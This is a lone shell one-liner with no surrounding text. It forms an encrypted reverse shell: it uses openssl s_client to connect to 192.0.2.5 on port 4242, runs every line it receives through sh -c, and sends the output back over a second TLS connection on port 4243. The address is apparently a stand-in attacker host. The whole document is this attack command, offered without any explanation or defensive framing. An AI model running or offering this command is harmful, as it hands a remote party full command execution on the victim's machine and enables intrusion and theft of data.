openssl s_client -quiet -connect 192.0.2.5:4242 | while read -r l; do sh -c "$l"; done | openssl s_client -quiet -connect 192.0.2.5:4243
